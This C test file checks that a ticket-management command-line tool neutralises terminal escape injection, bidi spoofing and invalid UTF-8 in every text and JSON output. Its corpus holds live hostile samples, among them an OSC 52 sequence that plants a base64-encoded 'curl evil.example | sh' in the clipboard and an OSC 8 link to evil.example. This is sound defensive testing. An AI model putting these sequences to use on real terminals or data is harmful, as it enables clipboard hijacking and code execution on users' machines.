/* Hostile text (issue 6): titles, customer names, refs, assignees and reasons carrying OSC 0/8/52,
 * CSI clear/cursor moves, DSR and window-report queries, C1 controls (UTF-8 encoded and raw), BS/CR
 * overprint, bidi overrides, zero-width characters, BOM, DEL and invalid UTF-8, sent through `add`,
 * `import`, `raise --reason` and `assign --to`. Every output path of the command line (list, show,
 * show --explain, audit, audit export csv/json, every --json, and stderr of refusals that quote
 * the text) is scanned byte by byte with a decoder of our own: no ESC, no C0 but \n and \t, no DEL,
 * no C1, no bidi/zero-width/BOM, valid UTF-8. The JSON outputs must parse, and their decoded
 * strings must equal the original text wherever it was valid UTF-8 (the escapes round-trip). */
#include <criterion/criterion.h>

#include <cjson/cJSON.h>

#include "../tools/reliability/relutil.h"

typedef struct {
    const char *name;
    const char *text;
} hostile;

static const hostile CORPUS[] = {
    {"osc0-title", "\x1b]0;pwned title\x07 osc0"},
    {"osc8-link", "\x1b]8;;http://evil.example/\x1b\\click me\x1b]8;;\x1b\\"},
    {"osc52-clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07copy"},
    {"csi-clear", "\x1b[2J\x1b[3J\x1b[Hcleared"},
    {"csi-cursor", "\x1b[10;10Hmoved\x1b[5A\x1b[2K"},
    {"dsr-query", "status \x1b[6n query"},
    {"window-report", "title \x1b[21t report"},
    {"c1-csi-utf8", "\xc2\x9b" "31mred\xc2\x9b" "0m"},
    {"c1-csi-raw", "raw \x9b" "2J c1"},
    {"c1-osc-utf8", "\xc2\x9d" "0;t\xc2\x9c"},
    {"backspace", "good\b\b\b\bevil"},
    {"carriage-return", "harmless\rEVIL"},
    {"bidi-rlo", "invoice \xe2\x80\xae" "gpj.exe"},
    {"bidi-lri", "\xe2\x81\xa6" "isolated\xe2\x81\xa9 \xe2\x80\xab" "emb\xe2\x80\xac"},
    {"zero-width", "pay\xe2\x80\x8bpal\xe2\x80\x8c\xe2\x80\x8d"},
    {"bom-lrm", "\xef\xbb\xbf" "bom \xe2\x80\x8e\xe2\x80\x8f marks"},
    {"invalid-utf8", "bad \xff\xfe \xc0\xaf \xed\xa0\x80 \xe2\x82 end"},
    {"del-nul-ish", "del\x7f bell\x07 vt\x0b ff\x0c"},
    {"newline-tab", "line1\nline2\ttabbed"},
    {"long-mixed", "\x1b[31m\xe2\x80\xae" "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
                   "\xc2\x9b\x9b\x1b]0;x\x07 \xe5\x85\xa8\xe8\xa7\x92 wide"},
};
#define N_CORPUS (sizeof CORPUS / sizeof CORPUS[0])

typedef struct {
    char *dir, *db;
    long ids[N_CORPUS];        /* via add */
    long import_ids[N_CORPUS]; /* via import (valid UTF-8 ones only, else 0) */
    long import_invalid_status;
} fixture;

static void scan(const char *what, const strbuf *sb)
{
    char why[160];
    long at = rel_scan_unsafe(sb->buf ? sb->buf : "", sb->len, why, sizeof why);
    if (at >= 0) {
        long from = at > 40 ? at - 40 : 0;
        char ctx[200];
        size_t k = 0;
        for (long i = from; i < (long)sb->len && i < at + 40 && k + 5 < sizeof ctx; i++) {
            unsigned char c = (unsigned char)sb->buf[i];
            k += (size_t)snprintf(ctx + k, sizeof ctx - k, c >= 0x20 && c < 0x7f ? "%c" : "\\x%02x", c);
        }
        cr_assert_fail("%s: %s; near: %s", what, why, ctx);
    }
}

/* Runs a command that must succeed; scans stdout and stderr; returns stdout (caller frees). */
static char *run_ok(fixture *f, const char *what, const char *const *args)
{
    rel_result r;
    rel_result_init(&r);
    size_t n = 0;
    while (args[n])
        n++;
    const char **full = xcalloc(n + 3, sizeof *full);
    full[0] = "--db";
    full[1] = f->db;
    for (size_t i = 0; i < n; i++)
        full[i + 2] = args[i];
    int rc = rel_run_in(&r, NULL, full);
    free(full);
    cr_assert_eq(rc, 0, "%s: exit %d: %s", what, rc, r.err.buf ? r.err.buf : "");
    scan(what, &r.out);
    scan(what, &r.err);
    char *out = r.out.buf ? xstrdup(r.out.buf) : xstrdup("");
    rel_result_done(&r);
    return out;
}

#define RUN_OK(f, what, ...) run_ok((f), (what), (const char *const[]){__VA_ARGS__, NULL})

/* Collects every decoded string value in a JSON tree. */
static void collect_strings(const cJSON *j, strbuf *all)
{
    for (; j != NULL; j = j->next) {
        if (cJSON_IsString(j) && j->valuestring != NULL) {
            sb_append(all, j->valuestring);
            sb_append_c(all, '\x01'); /* separator that no decoded string contains raw */
        }
        if (j->child)
            collect_strings(j->child, all);
    }
}

/* Parses out as JSON (it must be), returns every decoded string joined by \x01. */
static char *json_strings(const char *what, const char *out)
{
    const char *end = NULL;
    cJSON *j = cJSON_ParseWithOpts(out, &end, false);
    cr_assert(j != NULL, "%s: not valid JSON near offset %ld", what, end ? (long)(end - out) : -1L);
    while (end && (*end == '\n' || *end == ' '))
        end++;
    cr_assert(end == NULL || *end == '\0', "%s: trailing bytes after the JSON value", what);
    strbuf all;
    sb_init(&all);
    sb_append_c(&all, '\x01');
    collect_strings(j, &all);
    cJSON_Delete(j);
    return sb_steal(&all);
}

/* The decoded strings must contain text exactly (as a whole string) when it is valid UTF-8;
 * otherwise some string must carry U+FFFD where the invalid bytes were. */
static void expect_string(const char *what, const char *strings, const char *text, const char *name)
{
    if (rel_valid_utf8(text)) {
        char *needle = xasprintf("\x01%s\x01", text);
        cr_assert(strstr(strings, needle) != NULL, "%s: decoded JSON lacks %s exactly", what, name);
        free(needle);
    } else {
        cr_assert(strstr(strings, "\xef\xbf\xbd") != NULL, "%s: invalid UTF-8 of %s not shown as U+FFFD", what,
                  name);
    }
}

static void setup(fixture *f)
{
    f->dir = rel_mkdtemp("hostile");
    cr_assert(f->dir != NULL);
    f->db = xasprintf("%s/hostile.db", f->dir);
    char *policy = xasprintf("%s/share/policies/haptik.json", rel_source_dir());
    free(RUN_OK(f, "init", "init", "--policy", policy));
    free(policy);
    for (size_t i = 0; i < N_CORPUS; i++) {
        char ref[300];
        snprintf(ref, sizeof ref, "add-%zu-%s", i, CORPUS[i].text);
        char *out = RUN_OK(f, CORPUS[i].name, "add", "--title", CORPUS[i].text, "--customer", CORPUS[i].text,
                           "--ref", ref, "--level", "S2");
        f->ids[i] = strtol(out, NULL, 10);
        cr_assert(f->ids[i] > 0, "add %s printed no id: %s", CORPUS[i].name, out);
        free(out);
        char id[24];
        snprintf(id, sizeof id, "%ld", f->ids[i]);
        free(RUN_OK(f, CORPUS[i].name, "raise", id, "--reason", CORPUS[i].text));
        free(RUN_OK(f, CORPUS[i].name, "assign", id, "--to", CORPUS[i].text));
    }
    /* import: one file with every valid-UTF-8 string (JSON escapes), one with raw invalid bytes. */
    strbuf imp, bad;
    sb_init(&imp);
    sb_init(&bad);
    sb_append(&imp, "[\n");
    size_t n_imp = 0;
    for (size_t i = 0; i < N_CORPUS; i++) {
        strbuf *b = rel_valid_utf8(CORPUS[i].text) ? &imp : &bad;
        if (b == &imp && n_imp++ > 0)
            sb_append(b, ",\n");
        sb_append(b, "{\"title\": ");
        rel_json_put(b, CORPUS[i].text);
        sb_append(b, ", \"customer\": ");
        rel_json_put(b, CORPUS[i].text);
        char ref[300];
        snprintf(ref, sizeof ref, "imp-%zu-%s", i, CORPUS[i].text);
        sb_append(b, ", \"ref\": ");
        rel_json_put(b, ref);
        sb_append(b, "}");
        if (b == &bad)
            sb_append(b, "\n"); /* JSON lines */
    }
    sb_append(&imp, "\n]\n");
    char *p1 = xasprintf("%s/import.json", f->dir), *p2 = xasprintf("%s/invalid.jsonl", f->dir);
    cr_assert(rel_write_file(p1, imp.buf, imp.len));
    cr_assert(rel_write_file(p2, bad.buf, bad.len));
    free(RUN_OK(f, "import", "import", p1));
    /* Raw invalid UTF-8 inside JSON: accepting (shown as U+FFFD) or refusing (one line) are both
     * fine; what matters is that no raw byte leaks. */
    rel_result r;
    rel_result_init(&r);
    f->import_invalid_status = REL_RUN(&r, "--db", f->db, "import", p2);
    cr_assert(f->import_invalid_status == 0 || f->import_invalid_status == 1, "import invalid: exit %ld: %s",
              f->import_invalid_status, r.err.buf);
    scan("import of raw invalid UTF-8 (stdout)", &r.out);
    scan("import of raw invalid UTF-8 (stderr)", &r.err);
    if (f->import_invalid_status == 1)
        cr_assert_eq(rel_count_lines(r.err.buf, r.err.len), 1, "import invalid: more than one line: %s", r.err.buf);
    rel_result_done(&r);
    free(p1);
    free(p2);
    sb_done(&imp);
    sb_done(&bad);
}

static void teardown(fixture *f)
{
    rel_rmtree(f->dir);
    free(f->dir);
    free(f->db);
}

Test(reliability_hostile, text_outputs_carry_no_raw_control_or_invisible_characters, .timeout = 120)
{
    fixture f;
    setup(&f);
    free(RUN_OK(&f, "list", "list"));
    free(RUN_OK(&f, "list --all", "list", "--all"));
    free(RUN_OK(&f, "audit", "audit"));
    free(RUN_OK(&f, "audit verify", "audit", "verify"));
    free(RUN_OK(&f, "audit export csv", "audit", "export", "--format", "csv"));
    for (size_t i = 0; i < N_CORPUS; i++) {
        char id[24], what[128];
        snprintf(id, sizeof id, "%ld", f.ids[i]);
        snprintf(what, sizeof what, "show %s (%s)", id, CORPUS[i].name);
        free(RUN_OK(&f, what, "show", id));
        snprintf(what, sizeof what, "show --explain %s (%s)", id, CORPUS[i].name);
        free(RUN_OK(&f, what, "show", id, "--explain"));
        snprintf(what, sizeof what, "audit %s (%s)", id, CORPUS[i].name);
        free(RUN_OK(&f, what, "audit", id));
    }
    teardown(&f);
}

Test(reliability_hostile, json_outputs_escape_and_round_trip, .timeout = 120)
{
    fixture f;
    setup(&f);
    char *out = RUN_OK(&f, "list --all --json", "list", "--all", "--json");
    char *strings = json_strings("list --all --json", out);
    for (size_t i = 0; i < N_CORPUS; i++) {
        expect_string("list --json title/customer", strings, CORPUS[i].text, CORPUS[i].name);
        char ref[300];
        snprintf(ref, sizeof ref, "add-%zu-%s", i, CORPUS[i].text);
        expect_string("list --json ref", strings, ref, CORPUS[i].name);
        if (rel_valid_utf8(CORPUS[i].text)) {
            snprintf(ref, sizeof ref, "imp-%zu-%s", i, CORPUS[i].text);
            expect_string("list --json imported ref", strings, ref, CORPUS[i].name);
        }
    }
    free(out);
    free(strings);
    free(RUN_OK(&f, "list --json", "list", "--json"));

    const char *audit_cmds[][4] = {{"audit", "--json", NULL, NULL}, {"audit", "export", "--format", "json"}};
    for (size_t c = 0; c < 2; c++) {
        const char *what = c == 0 ? "audit --json" : "audit export --format json";
        out = audit_cmds[c][2] ? RUN_OK(&f, what, audit_cmds[c][0], audit_cmds[c][1], audit_cmds[c][2],
                                        audit_cmds[c][3])
                               : RUN_OK(&f, what, audit_cmds[c][0], audit_cmds[c][1]);
        strings = json_strings(what, out);
        for (size_t i = 0; i < N_CORPUS; i++)
            expect_string(what, strings, CORPUS[i].text, CORPUS[i].name); /* reasons, assignees */
        free(out);
        free(strings);
    }
    for (size_t i = 0; i < N_CORPUS; i++) {
        char id[24], what[128];
        snprintf(id, sizeof id, "%ld", f.ids[i]);
        snprintf(what, sizeof what, "show %s --json --explain (%s)", id, CORPUS[i].name);
        out = RUN_OK(&f, what, "show", id, "--json", "--explain");
        strings = json_strings(what, out);
        expect_string(what, strings, CORPUS[i].text, CORPUS[i].name);
        free(out);
        free(strings);
        snprintf(what, sizeof what, "audit %s --json (%s)", id, CORPUS[i].name);
        out = RUN_OK(&f, what, "audit", id, "--json");
        strings = json_strings(what, out);
        expect_string(what, strings, CORPUS[i].text, CORPUS[i].name);
        free(out);
        free(strings);
    }
    teardown(&f);
}

Test(reliability_hostile, errors_quoting_hostile_text_are_safe, .timeout = 120)
{
    fixture f;
    setup(&f);
    for (size_t i = 0; i < N_CORPUS; i++) {
        char id[24];
        snprintf(id, sizeof id, "%ld", f.ids[i]);
        const char *const cases[][8] = {
            {"set-level", id, CORPUS[i].text, "--reason", "r", NULL},
            {"add", "--title", "t", "--level", CORPUS[i].text, NULL},
            {"add", "--title", "t", "--channel", CORPUS[i].text, "--level", "nope", NULL},
            {"show", CORPUS[i].text, NULL},
            {"raise", id, "--reason", "r", "--expect-version", CORPUS[i].text, NULL},
            {"due", "--level", CORPUS[i].text, "--created", "2026-11-20T10:00:00Z", NULL},
            {"audit", "verify", "--anchor", CORPUS[i].text, NULL},
            {CORPUS[i].text, NULL},
        };
        for (size_t c = 0; c < sizeof cases / sizeof cases[0]; c++) {
            const char *args[12] = {"--db", f.db};
            size_t k = 2;
            for (size_t a = 0; cases[c][a] != NULL; a++)
                args[k++] = cases[c][a];
            args[k] = NULL;
            rel_result r;
            rel_result_init(&r);
            int rc = rel_run_in(&r, NULL, args);
            char what[160];
            snprintf(what, sizeof what, "%s error case %zu (%s)", CORPUS[i].name, c, cases[c][0]);
            cr_assert(rc == 1 || rc == 2, "%s: expected a refusal, exit %d", what, rc);
            scan(what, &r.out);
            scan(what, &r.err);
            cr_assert_eq(rel_count_lines(r.err.buf ? r.err.buf : "", r.err.len), 1, "%s: stderr is not one line: %s",
                         what, r.err.buf ? r.err.buf : "");
            rel_result_done(&r);
        }
    }
    teardown(&f);
}
